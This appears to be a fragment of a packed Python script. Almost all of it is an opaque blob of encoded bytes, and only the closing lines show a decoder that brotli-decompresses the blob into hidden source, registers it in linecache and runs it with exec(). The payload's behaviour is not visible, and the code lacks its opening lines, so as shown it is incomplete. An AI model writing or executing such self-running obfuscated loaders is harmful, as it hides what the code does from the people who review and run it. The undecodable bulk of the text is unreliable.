'WR:à3XWq^cS/ǚrۼr'F*%t{0ڳif}}X=Q`u%=2H(]1@ڛѳ+ΐE56ƃ#sgR=D>~H5+>Ga#Sd1WEٛdt
~Ÿ>d>ɇ':%]aZ.-UXֲݕ|o3MShڎl1f˰J`jõ݈ե/TñOoQqܦ3k`Ltx3gNrF<aVE/+3mJ>v"3(\BDifH_TRm+	Orr<
*
-.ńpb{:NȩЇ<;9΍ D	F%""'<؆ҝ1MsКkYZ %6FK,͓TUZ+kN˵nxqnG@]HXay~=1۝þD7ߚAcsv'#̑C bkFF+h[4ΰg#%,iٻ/f_.x~F?67n!"Mf_ҳ<0 ¸,$~¿:_hIĶ @-
h}=f;b6ظ?*H'=
AǓ0CgpqUm
#^qAp?Ҷiwӓh1[#'.u0rZnNN^,bsʉ`XVԂ@=g(Lơ`#U&.^ץ"6U̜ٯUx\
Rէy\ҥ!ңocw݊e`{*<P'a&jq?گYLfElk޸xܟMȺy8m8@jY=gbɩǊbgË}ΏSi0lv=GEdʧd*%_+om2&O:=( QD]پH-5qGj`"q/n,^*K/͏OuU[d%Y0gAZWY4jSʫ?;2w=C(+k
BRr#a5TQMQݻ0/gؒ(1ßIGiC][0Vd%#7UιFoK,ccW]Rtoq_	GuP~jkK~vѠֻEmټGy׽==>T[iv1ŗb<pmo7?ҫڰ
s]1P6$z!\3\C~	DYgٸ/à v2E_P#hKdUՙݞDkݟLw*S>W܆r4֗-F6OVςRƫf5	jǶԩjS#c/(>>*Ww7mU;NVܗ@X!Fxu%9\%ݗ&b7ue|Z1#LLLs|~5e'Z͌%o49ɈU\aIeٶy=0Ze+!x0<ێu5#=2MC8WS1O^^Mn$[;݅7.qB9S$͸Cq/dߌۋlAltBwL^.nMfkW@b"[}]XRV1`%V<ngmX*cB/*@ȅo]Ue֎rF--!ۍͿ!d	K;#IGM{,3#)nlpql
'Sg#{?YEkRxQ/ʝ47ܪ?`-2y{@@Y
wDȱjEW$:R̂ÿr'J,Sf>ϑ'fE[2ǩzzqRb'cd@My7@C*8LԳ݉kj]	:ȁk*	Xh#P>]{{dxz~YGd(m(E:[vKʮ-$+hi%xr6fo-04j9Aw<.٧J6&A7I-9S%]94rD~ح)|}d0LlH<CaT	QLNl\g.OO.տa93ׄyO.l\<C%ܝMW+ŦIAYh/{so~%{VcJoLllw`JKǜr`W9ma"SybЀİ6zBr`ʏz>L~M`zY2}XkhX tdB%*b^vcW5cmkZǛ>áSr-7;j5d7c[7͕YddI-<mpVsbS/fɼ_#9/RA@+׭$05YRwm|OW:y1sߞ)4O\Y3GeȜ#uo}sV.6=d);'rb&
f8OەbߦU:BDqdՃrGLsq1hxƈz¬U)`|
Q%ùmftḺ*.x^*?P)UµF>*j$!@I"ƪQw:W.m'q/BNϢZT ݫo]/CՄaqi[?Dߗ	B`Xa P8*:>R"GŨzڶ{*ۤI/n-EW#Ĝ]%J@	ԤCi	0P͵͓ĥÞFy/hrFpŀ4z=϶(8? ۡwL~hӃݴ#;##J.ؼ~QSgMĥ@l/:,<^	ԛV.%81!ȥToS;yBR%-9ڲ7cqQ_c>@$ˢ=ڳ7=#ڳ-Ҩ~^^3~hGS
D#ӏCDU8
е;-6$Y/:x~ÄGV.nNiӄ-ېgi\e U#&Ewd{#p,^jYnZB1W>sCEp=TH\OUHx.imV&|tZlQֿ')՞ߞ_[`1sQg]-ܰ15^'MN;/pxmLDC*#1zDtW(TI.
PdC=[?ɼ۬9(e6!Va--f)]_*|Dyx"7СA#',Y(?5óBC	y9֒yˌ~ɞNI26д6 gC
Eſf'hӖv?-\ejjO<9>$Usk+>;(lLt\36sC&SʹkTşĕG*mv*+Fgf-ۓe7wgODkd-Z؟؋?j,	(º./BL2iWAtl=}oUg>_\؎aK"ivwÊ8
Jt73h)xjb	zfigQQ Qj~wEiE`*U2݅ƛ<ɞ׃~xv¸	݂ABDfD,2ieq XW$,HY$Q&r6ajv ˯ѦkMʶe@YŮ>s#3ϑ!ЗTPWS[OS/GUɁ@]:s<I4݉ 
HdPf$6ibvkĢ+lTzdʼߓXJ#+Qʐ YX`Z#%bbòg^-R/[),Gcf!-xun#{~</Õ\I'FNx1O]v|kYG2gsۦ,y۬1]*I<6Se\2ϘF]"^ggw@l$eJ6PtM}=ϩ˵5_aypJUUE}ЋLg"C=m"k9(t/Jy>ڢȺߣ|OWۘ\ΈΫЕ#'+,\G,fxO^0C~rߏX̣GWۓ@n8}|!{/͋R@[}&e'*%w&ÇRŉpSI+`k;?_IЩPЕV[<(͖qCm8'tDςIn<a;:rv~tDy	ŷԐMQ.|޽Ŧr0o&Z̙/z@z&,([Ϊ/4 blh3ClG1E}F4JkZ"D\PQ 'RY G<FČo/YBS=AS+cVݙ*:;!؎j8'M73Znd$!_};{Ԧlܪ̨Ȭ@k(L0wmK,@v֩ilZ۽U&q	ZfֽæBҴ40DrZϡ06L'8IkqQݜtzo{dP&g
ϫv-|G`[yHԯŉi+|6.|AaKU4N?XWLJt{jpӬӟm#4F:?oK ȤHS|֎7|N3MYIz9$k׶?dVo\ص8TgK.iѐ!"tn
iy)ђjs&}QfxiSԁ`9^cuf+hvpDٿQX/F:g.Gr^eoWsk!ͩw8E14y.=0ti,,)ΈV&3\|6vd(s~-A.|=#\y7-f&W̽.f|]c0o.e.TTɽ<~/(ݏM%8?,I.^hAMBSGf@dYŮp5Ҝ&PNЂ\6'3}3m|pͲ^E)gxTrC/s+bdJӣ5&l\FBHnjXe3=Ėc}xH!ԇzj7~>Bc0ζ+(;l֤5 \NkpwzʐD\ZCF14GȋKʹý:ؒu04<8bHS{MϔeÇw(`--͆IƟ(/?cevR\E[u[1%էne]>w	1[fMUdwךChk9R!^T׏ѕل,-bQsѕA,n{30
^RH(ki fbk\r$̹t7gnZoFԯQXTe]٠׶Ғ2:M*3Zujʉ&ا}UϷm!4J|*5%mw9߸U8.&]I#X^aa!U+J'e8.6{g9TL۔d\U
aUp6HT&#ވW"9MӘ3CG-NXԥUneg,H
ߐZ[nH?RT;C¸zYijU ܃ՁMG&ǞvR)B÷4{xpCԄ<wvɁN,>ZیeX%sV
a>hR:cHOJi?Q	E8T2LKlFEFڶˤXg~U?D؛[}͂ޯ[ΘXWN%Tэ҄pVn'>k#r1-qax'p]Ԇ/Ү)л1Wտm/-JԮk5@#	$"p-Pj!>pĜxfaˁ̴,T	8p?LJ?se^+×Uھvx,LfBL|dMC`͕¬<̺FĐb6&%]nMna+/rJPșl1Ӧadv4u"O(Ҵӯ7XєtUE*_ؙ߯0Vxȏ6	ܚUݏW{.kr8,BN%K\[ѹǵ~p4>vB.ق'2x,HZMdN6K|$ rp~1iMfB̵IY9~_>߾=dX:6ʕ/Qe=>ߦ	'BFKMJboX[̿%L?"{to!dUm;ش_[S<r3HrpĿ^ދf&٨àZ\ZhlHj`\?ix4=8Rm[vT[_;7)*ɲ;?Ȯ	/{`@]8$[B6ҡ/NjvJg#?vkkR	yʲ{&
feKT;қzx
|&BNFqĉv<}%-LFLlhKθ|aftj%)0[83)
7SgýrBX],V/4}wɞ0</&29F*FPA{3؊Z}Jk2@!Y$f9D>EfxN`|Ac@},,'l	xx>[g1Ȥsx(<bz"Ǉa{]*3J֋ewFJ7fRԱ`v̧UIhFeŝ߆7òْ~||#Ds8*ׇ$o`AldONBv~Ӭc`93݊da¤çd ӗ|Wha	҂^kB)SЈ@]$Cյb܀;=OynR/
SmJ_ls6UYʻ",й"GnڵB^p[.W;̋jsKc#CNb?5b!-bk.rؤ9]79"NhhQnw7sp+݇R"2f"#	}U'@OO),<˚'7it:Fˎ|9ExY{QڃN(NN]d#H;҉.o3A<`	<,U#-CXΆsO}]S,3~˛C֖X
hi}M9[*q9^->Ox;»ߎG+	ONYJelՠZYb$~gr_([:ׂsh<Qŗ(E/BIj]N@^e2A-E/FP6I@rlĔ]k܆-tyj\lmHh&wQ݃d,:Į,#!u5܊5N539Jz[y%5VdFg,toҪai-k)֐DRu|z>@b·a+f0WYU|f{9۽qGۑNb3pCsPyR5:pf0u lӣv.4f!^nfαgbc?aAou]ͧu7hb׆5}C]ϢM9z@W[o"lю)oCF6U{S<[z̺9A!{^JïeZMA8+p&rd[@H([D@C̍sΜʖcn{8i`&̖u 2ϐaNPҿ	m9:
o\hi	c@28Z0e0;ωţyF%_RđhlzOĮwbg
M}nǶl*kNأWoy#ЂHŶ<]ɍITע^35eZJA6O6OD!bӋ$|R3-цn`{ǳf:<-(ӂąxdX_?=բ~%mYY#5CZ5kk]k2hKi܊pn>߫c q{9,A_~կ!^twȉ# L@hw0CxM[v3@ _koRxJi-!۹!ϋrMrQսc̜.tK1U: GFyŷ/qR3ПE^^,H!AƓ<{%Aԁ;JL߿0"8wI˼ǖ~4ήۉja˧o+Hr&о0}<fӃ*7bԦw|ߥ"FôjA{VZ{0Yk*ռ-
ޠ=P`I:0
8bJd~yqɨ@}]tZ\(Q|Qm
xQ7A_1֊.ڴU^ןtmЭBi~Xee?g?LҘ&<b<k%܈8s@o֠:חVK72<)mK&NQ˄vDsMCݨyٶNp/huJIzWu?YYo0ȝ_!Bȵߪ/#F?
`SR6tD[{o=C]27{åQ/6m_\=Ip_&Jd+,s;/ݱr5xL|vv#q(`"*ܨƙXC{ʏ[R@g+23Ȁ9KF	6	3>tm%^ߡ*9)1gRh_K}ǥ74y]N&l;X% oEHG!qI5ɤf:Ɨ`R7"w&hJ8tk<u3ӌ=aۖGEU4v\=V\5CV6qq&f`p6<o	
T`5"YK>2ݷ8=:!-m`Aǒ	3i̛:kѥ[֨P~$[ۅ"R]'_V,'?oݜ-0&Ё-Dzϯ8,'YPķ>ń`rV$uj
&#z)ٹM* Hq<O͚IOgmQ}	=|f {:ہ#H<?*%{3oШ#¥۬0rtGpS1#Y@:YcѮa1ٕcڧ@=kd9j;Tl*T#|Ck csZu֕,Aa7d2ߺh^,!I2ɠЇp/Wbe_oOHTa»pWN2o޳\2H}(5ͧW,ݤήP%"g'Zl,f@S+l7Vg2M.9
ӝ2+*5יy6Ej\F6Ϛ*IgjC͘(u8/Yԙjx!)ٶCqRGIӤTPUFdSǿ\!%uٷ]Io`^0a/ƾP2-ĦK=EǏ b6e2E03¦d021\DF=$8Ht۴-l')K}z|Ju^h˹ެAD9_Tpfcʹl?ps<ñ.n&[>Qo+@S1D˘$3T}U:^J*\\L}e@+AqχXs~TTF<\Vd^z$c"DXU"_	֚\aU|7>WV0!vnNnwkG,k[ۮɯЋm?HWUYiYCԥ3>οBHD?Pը҆^G9A|q[b4hzW?_C_&'Ssѯ Az_K5,h[ܷB_5/vOy>ϞW۝G=D>0eo!!ydGWGb˭ǅUa?ٹ3ՔWH=",:l:^
mvӼP/khmru):~͏Z44yCBDyރzhtQhuܔ&$|ϗSqNې0='߁x.>oǿPӕQgTCCW=LD߻lǎ?-V|j-3p.u_9ߕF#V˸PbķoD?77ػȒC*U/!G@TTYWAW{b$܁us4tޝ$j#J62wiz/o߾_N}uH-ߥx1oKʯ˞B8LfA1>̙i=тa
ph\әES&*iָ46Ȟ/lf1ڀjQ"B*VFX;ACYtm~*ٚʽ5ptUEsz-`jg~+M+L%T2\OU.|+YXނj,Ix10KP{JB	kTrm3tY[̵BPڦ	?8Փ߱'Du;p`*07~ƝODD*mԑcܫ.0Ea]сӕ{X<2QZx?D~щlݸS)=Ivwpt/$MQCn2Ui&tAi5UEY6([ʘ]ö՘
ZςzYrkaS?u2qBW
/7ëe1V22ޯZȧ e*!.~.CLOHF>mχ2_+7K-v$eΥl,_uv''/
$$DR}ʖ:kwH4q[[Ʀ]J8Wf@?ԫ!'L*Fw!ls/Y[C4ZqBg~*[QygR4BR4ßۃ=*NOayT6hd
ؚRnyvv'U$O_/ZLKʒ=0<*Swu>Fir(Z3@#'JP,C&}I<ԼM *u~yFթ
D0iT>x.Ui^ZAbfUw2PK8Q~Kjt@ǰ.z oD/&R.<bרXphV0^ `T
pj'6I5jTˑUʟ)OV)ňp$4>a:ĺZnrŴ`{#fD^BGܱswVNG/W]8'W9/Ĵ{n̤7A t.&ђq{TV̑XՉ]*Jf^Lu~|6}I?^;$Cn(i@:*wUxA4(#"ӗ%ȏ	ͅhQiC`>|7Q]3[ 30%;@U|JJO>]Wʫ*հ?wWZ{A|j}4+Ԩu4\oJPՖ	D	zrug^;VbI:[L]pgر^d-WK7/)3sR~6~6=`e2g=Lzhp*B@R\OS
2TLhL*HByDgOFY	I.=2ͳUeNߐ(:;=t{-#"Jʆk|~w:v[>%jTŴX)p1UiL.F1dR;ةī۳Ǳw;b	tBtPRyѱ{yw oq vV6Όf=Bzh˧ܹE7`SEnچ֟s-<	@Ǣd:)"aި~NߎxvwmuLn6N	Yz!fa'ϚYz؆Ö`1:>Z4fyqEDM4p	
.?{qȉwZM)έ(Y=Zh*F&cҐg9ĸɷb5x>AÝ6#¾"K%YH9
f2lʄ\Zю
Pa@ (fW-q
u*ӔǚO<ٸ˿}BN=l
TZS	atGس6a`Nr܌<׮$,Og;ӱZC͚^m1ӞsKqĜJ۰H1۲9լӀ̅Ҕbѡ-S:F:y&^Oûg2k\4 YaBN̜)|ό0FOcɍ|}"
ձ_1te3Ncp]'\#@'0c7Q1m>|`-&WEsˈ	LxSx9Op_$	FQ:x7B/0ڢ4|eű.=`wV{*։|d9s/iLp|ryBHz~kKK7D|mHfm9շe~N)X]Jra2/A
G\;`2IG-q]ؔ9HT(b3˙Sv]=7	N
ʊΙ͖H&AUmoo=B< ar-ۚȌjܩڏ|ɚ"|Ma:e}EŇKCf=bo$Ô~[j/:ogNzlD -,?{X_hlL#>*\\7{ւyH#hPSLr&Ұf_Fp]õEڮFIz\rW\z%f[Ls,.kPԤ,;Ä׮DGoEn~,;߫էD209qͯ0G>nYѕ|	ʉ%zX)8-7bypb
vF^jzFnwR\JU\M>,*+$@VZ+k}l]i.\4{J1ߋXn^9OD7SC6Q+Am$B_rU³U)>d]rͧPn1`\*}GTܳdX;%ȗ۷{Ub/IZUثOCJaٕFu:G{auzJ{HOB7 )mLLSގ,#݃Wlϥåd9V?%@zYQU49?X/C	]V1g|#,kF3kow\L}˸Hkw|'ӂȞh'pin1_BDHlÂXBRkY~
i\7@@
pفf8.*mmq$*XI+|lST  5o^(65E)R%"ґQI_{M9wenz0a^?^.g3*[![L͸؋M*:JbB}hKEԫˡV:
Ef6CUMHߝ3/&!':۫qmXnÃI[07_Byq^>7t h=x͹%.ys%ka$]a؀Gzǐʀ4^
MJyӝ<L+eױb,Ԏ8yj6q(@/|vMɠ0@ȵ!,uL{B0	\z6NʹTohn؎kj)
uX#o1err՗a,NMF`ys]g(9ϓChȉ/Z\|HE2tgR"oaDW94'߀?zr/$Ni&s^Ǡ9EpW&,Ƣ
{w&Q̽0#1@GFvecxAJx'ܜNg'M%Bi0%D8X
z|up+OIU:% Ϲ'CJQ9I\"RŦ#|3=pСc	ef
Xrʮoc8݁mn/7t֟~ժKы
3lXƕ`[,\Bhԣ)7;^xa3~5ǌoܴ4xNr]k8^$ȉ1}y_Zx%;b"8ur?+BYw&E0Y/)*ReF>Q<}a2=EyqPֲZ6u(Vhn3iڜ3;7vO/?XK2S(SB&qFX u5<pknY_Cy<Q؅\i&m4:|?m6}?٦uTGiB4ߝ`oF,:p ߧ-$!]|bbtĝӊYE'ʣ]~WBr.fVXowl(|v'&+̢!_JG,ánXZ6?+wѲ˟kg՛y4f\G*K?ʨ<3s߁A,*>3o;8ם٫4ۛf0ȳչm
 \դ#afiF)9q$15FG8LqB[
Dg@ɲ!˃IVH`XXTo6x48hGrAEp"UQR,wTJݜMlFM<7V}u<H́_J^D`ߵ)+gӹ?sYU7{ʷ?} IlQQZÎ|fSNHValZCd@'Rq
7|)c@t6߹~wĪbїѩw@	g /CZDS:#.TSTgpi;ݑTm:Pì @q'Tk:>k#%UzD#M\';HJQ4ŭ6f׀XRa΃tq"cP&ǼUe)ҵޘOWf0i61׿!O\<-8mVe-]Ӏ8b1aWwEmד/G{0KRWр<7c|P%`o)¤Lg:aԮ3ɥSȟS."'Z(I<?B;cQ01c!Ac6tR~\`SKlܮ?%8#4HxI$H?O{8cȑ*dvJEi[EHiC&XcԱld{We$apxX5	Z}Ɲt@\}^sL$"^w	C>ztmD@SþL, fyv)oNa~KSBfWӓcHYn?};/$zQFPc?tDږyw=mr"+U:=f1y	y)KW{O~"ϐ@jOv-6gP56q5nR8u!ʏ(:qh)$ɬ=_k"]̎1ߢpF׌tNҎ"UEgB	'XE֭^^|KdxZFo9.q%[eMΊruȄw0SEY7bR݆:FsT~kUЅ7_Z-8qU¨7#ȷ{InΎ.xdU/Q6SYT5z2J[=Zf]DΠbM*W=k`yv6p>כP/ê:D@XٙWɀ´8Iqu*sq@s^8+R~z`:9rˠɆ] dq$M\TC*_~(;/?KsX~f0	>~σ^+T &gZJ.TҺ~Q1Eܞ$hxwzawt\Uscʗ{ݚiԖ\J3߲wʟS:'܁E:6/|ػIiF4ӝU%(_!}ۊ,|U~U=.Io2\wː~E_zߵ`hV !)1u	%&:k3DYR|M~i{Q='(EJֆp)g^bB917\tծ:[uGaRͫtՓ_S٬վ9|ҹ3IAb%)[Uޫ?ȓQp|Tn$LC3[4yר0M+;gowZR4UF\@<p!Drұ^߾Jqfj&3jJRKYj7-9hqܛ+"		Y>vDpx3+8v9k}*o*jډx!)O՗g9EL˺m/>7e=9תm-Q{39^M/<D4yCr3\^˳*HԖwv
k0\%!ˤvOߒY'(Xз`B5"&L4vԦ	m(6kZzwS5J*r>ևǂY8ݥ~"fCʱƎ"]hfc"ue!ă!RLZmbͯdtH&aQ3HO1rˆ3ٖ@5̌ҁT|] įι0';ɍFLT`dJJ}FW[$[ʠtǗ|ޙԗ{iΜxRf-EwۀPxL{׽fd,[.ZFb/9o#,g݃a9t9G@ڵN%y'5;;գʾjh^cW>үm,mP:=	İK/$'{I*:ӼćmZȶ
(_l}*(mXms:9N\s¿9CՋ؞5ǕKq[X=Vx!&4{lW< #cǺF%sۧN(w
hvߞAƑpy,KʅWyYsMèwyȀAу2	rZllTQf3nh	W79݆mZG^4S`x6.qˁϽ;V*W#Չ ؀Ԑ *ˬqIӪn;ѡ|жu T(Ҋԭ*e%إ՟3>m`G\҈bȓpj42>ɽ-h[W\k֒uE#C˩8AV`Ntcʡ-0AbUERaCvZPԇ97ϕyT}?*1ڡtym6uɒhTa#ā6xw;bW-`<1#T'I]6s~<G ʳ_-(s1H̛]ܨ֦yDOܑBieZ@-[׌f8OP4X$AC sNŋe3ݝvÅvԆؤ-6FSAU:
''':
 o=ord(c)
 for x in([o-1-(o>13)],[o-128,126])[o>127]:n+=x*b;a,b=b,126*b+1920*a
s=brotli.decompress(n.to_bytes(25659)).decode()
import linecache
linecache.cache['<string>']=0,None,s.splitlines(1),0
exec(s)
